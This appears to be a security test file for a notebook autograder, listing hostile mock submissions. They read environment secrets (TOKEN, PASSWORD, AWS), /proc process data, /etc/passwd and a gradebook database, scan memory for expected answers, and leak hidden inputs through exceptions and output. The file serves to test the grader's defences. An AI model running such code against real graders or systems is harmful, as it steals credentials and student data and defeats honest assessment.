"""Section C: reading hidden tests, expected values and other secrets."""

# ruff: noqa: E501

from __future__ import annotations

from harness import entry, handin

entry("A053", handin(top="""
for folder in (".", "..", os.path.dirname(os.path.abspath(sys.argv[0] or ".")), os.environ.get("HOME", ".")):
    for path, _, files in os.walk(folder):
        for name in files[:100]:
            if name.endswith((".ipynb", ".py", ".json", ".jsonl", ".db")) and path.count("/") < 6: tried(read, path + "/" + name)
        if path.count("/") > 4: break
"""))  # fmt: skip

FRAMES = """
import gc, inspect, types
def search(o, depth=0, seen=None):
    seen = set() if seen is None else seen
    if depth > 6 or id(o) in seen: return
    seen.add(id(o))
    if isinstance(o, (str, bytes)): leak(o)
    elif isinstance(o, (tuple, list, set, frozenset)): [search(x, depth + 1, seen) for x in list(o)[:200]]
    elif isinstance(o, dict): [search(x, depth + 1, seen) for pair in list(o.items())[:200] for x in pair]
    elif isinstance(o, types.CodeType): search(o.co_consts, depth + 1, seen)
    elif isinstance(o, types.FunctionType): search((o.__code__, o.__defaults__, o.__closure__), depth + 1, seen)
    elif isinstance(o, types.CellType):
        try: search(o.cell_contents, depth + 1, seen)
        except ValueError: pass
def stack():
    frame = sys._getframe(1)
    while frame:
        search((frame.f_code, dict(frame.f_locals)))
        frame = frame.f_back
"""
entry("A055", handin(top=FRAMES + "stack()", double="def double(x):\n    stack()\n    told()\n    return 0 * x",
                     apply_twice="def apply_twice(f, x):\n    search(f)\n    told()\n    return f(x)"), quick=True)  # fmt: skip

# Expected values: of a text that is asked to be mirrored, the mirrored marker; of arrays, twice the array that came in.
entry("A056", handin(top=FRAMES + """
def sweep():
    for o in gc.get_objects(): search(o, 4)
    for o in gc.get_objects():
        for r in gc.get_referents(o): search(r, 6)
sweep()
""", double="""import numpy as np
def double(x):
    told()
    for o in gc.get_objects():
        if type(o) is np.ndarray and o is not x and o.shape == x.shape and np.array_equal(o, 2 * x): return o
    for r in gc.get_referrers(x): search(r)
    return 0 * x""", mirror="""def mirror(text):
    told()
    for o in gc.get_objects():
        for r in gc.get_referents(o):
            if type(r) is str and r == text[:0:-1] + text[0]: return r + '!'
    return text + '.'"""), seconds=90.0)  # fmt: skip

entry("A058", handin(top="""
import sqlite3
for path in (T.course + "/gradebook.db", "gradebook.db", "../gradebook.db", "/gradebook.db"):
    tried(read, path)
    def ask():
        for row in sqlite3.connect("file:" + path + "?mode=ro", uri=True).execute("select source from source_cell union select last_name from student"):
            leak(row[0])
    tried(ask)
"""), needs=("proof", "marker"))  # fmt: skip

entry("A059", handin(top="""
for top in ("solutions/assignments", "source", "release", "submitted", "autograded", "feedback", ".autograder", "../checks", "../home", ""):
    for path, folders, files in os.walk(os.path.join(T.course, top)):
        won("saw " + path)
        for name in files: tried(read, os.path.join(path, name))
"""), needs=("proof", "marker"), quick=True)  # fmt: skip

entry("A061", handin(top="""
for name, value in os.environ.items():
    leak(name + value)
    if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "DATABASE", "DASK", "JUPYTER", "NBGRADER", "AUTOGRADER_CHECKS", "AWS")):
        won("environment " + name)
if len(os.environ) > 20: won(f"{len(os.environ)} variables")
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
i = 0
while environ[i]:
    leak(environ[i])
    i += 1
"""))  # fmt: skip

# Without confinement only processes of the grader are looked at: the machine's others are nobody's business here.
entry("A062", handin(top="""
pids = [int(n) for n in os.listdir("/proc") if n.isdigit()] if os.path.isdir("/proc") and T.confined else []
mine, pid = [], os.getpid()
for _ in range(6):
    try: pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except Exception: break
    mine.append(pid)
for pid in {*pids, *mine, T.canary}:
    if pid in (0, os.getpid()) or (pid == 1 and not T.confined): continue
    for name in ("environ", "cmdline", "maps", "cwd/nbgrader_config.py", "root/etc/passwd"):
        def look():
            with open(f"/proc/{pid}/{name}", "rb") as file: data = file.read(10**6)
            leak(data)
            if data and name != "root/etc/passwd": won(f"read /proc/{pid}/{name}")
        tried(look)
for name in ("self/mountinfo", "net/tcp", "net/unix", "self/mounts", "keys", "kcore", "kallsyms", "cmdline", "version"):
    def look():
        with open("/proc/" + name, "rb") as file: data = file.read(10**6)
        leak(data)
        if T.course.encode() in data or T.abstract.encode() in data or T.unix.encode() in data: won("/proc/" + name)
    tried(look)
"""), needs=("proof", "marker"))  # fmt: skip

LEFT = """
folders = ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/"), ".")
for folder in folders:
    for name in tried(os.listdir, folder) or []:
        if name.startswith(("left-by", "attacked-", "core")): won("found " + name)
"""
entry("A064", handin("leaves", top=LEFT + """
import resource
if resource.getrlimit(resource.RLIMIT_CORE)[0] != 0: won("core files")
for folder in folders: tried(write, folder + "/left-by-a064")
""", double="def double(x):\n    told()\n    os.abort()", verdicts={"double": "crashed"}), handin("finds", top=LEFT))  # fmt: skip

entry("A065",
      handin("assert", double="def double(x):\n    told()\n    assert False, __import__('traceback').format_stack()", verdicts={"double": "raised"}),
      handin("trace", mirror="import traceback\ndef mirror(text):\n    if len(text) > 12: raise ValueError(traceback.format_stack())\n"
             "    return text[::-1]"),
      handin("compare", mirror="class T(str):\n    def __eq__(self, o): raise ValueError(o)\n    __hash__ = str.__hash__\n"
             "def mirror(text): return T(text)", verdicts={"mirror": "wrong"}), quick=True)  # fmt: skip

entry("A066",
      handin("print", mirror="def mirror(text):\n    print('INPUT', text)\n    sys.stderr.write(text)\n    os.write(1, text.encode())\n"
             "    os.write(2, text.encode())\n    return text"),
      handin("display", mirror="from IPython.display import display\ndef mirror(text):\n    display(text)\n    return text"),
      handin("wrong", mirror="def mirror(text):\n    return text"), handin("list", mirror="def mirror(text):\n    return [text]"),
      handin("name", mirror="def mirror(text):\n    return type(text, (), {'__repr__': lambda s: text})()"), quick=True)  # fmt: skip

entry("A067",
      handin("text", mirror="def mirror(text):\n    raise ValueError(text, text[::-1])"),
      handin("kind", mirror="def mirror(text):\n    raise type(text.replace('-', '_'), (Exception,), {'__module__': text, '__qualname__': text})(text)"),
      handin("known", mirror="def mirror(text):\n    raise type('ValueError', (ValueError,), {'__str__': lambda s: text})(text)"),
      handin("cause", mirror="def mirror(text):\n    try: raise KeyError(text)\n    except KeyError as e: raise ValueError(text) from e"),
      handin("note", mirror="def mirror(text):\n    e = ValueError()\n    e.add_note(text)\n    raise e"),
      handin("frame", mirror="def mirror(text):\n    exec(compile('raise ValueError', '<cell ' + text + '>', 'exec'))"),
      handin("function", mirror="def mirror(text):\n    exec(f'def {text.replace(chr(45), chr(95))}(): raise ValueError')\n"
             "    locals()[text.replace('-', '_')]()"))  # fmt: skip

# One bit of the hidden input a run, in which of the exercises fails. It costs the attacker a submission a bit, and the next
# submission has other hidden inputs: two of them that differ in nothing but a comment must not be given the same ones.
BIT = "def mirror(text):\n    return text[::-1] if ord(text[-1]) % 2 else text  # {}"


def other_seeds(run):
    """The seeds of the hidden cases differ between two submissions that are not the same file."""
    seeds = [r["mirror"]["seed"] for s, r in run.results.items() if run.handins[s].name in ("bit 1", "bit 2")]
    return [] if len(set(seeds)) == len(seeds) == 2 else [f"marks: seeds {seeds}"]


entry("A068", handin("bit 1", mirror=BIT.format(1), verdicts={"mirror": ("wrong", "pass")}),
      handin("bit 2", mirror=BIT.format(2), verdicts={"mirror": ("wrong", "pass")}), after=other_seeds)  # fmt: skip

entry(
    "A070",
    handin(
        mirror="""import faulthandler, logging, warnings
def mirror(text):
    warnings.showwarning = lambda *a, **k: sys.stderr.write(text)
    warnings.warn(text)
    logging.basicConfig()
    logging.error(text)
    faulthandler.enable()
    faulthandler.dump_traceback(all_threads=True)
    sys.displayhook(text)
    sys.unraisablehook = sys.excepthook = lambda *a: os.write(2, text.encode())
    raise RuntimeWarning(text)"""
    ),
)
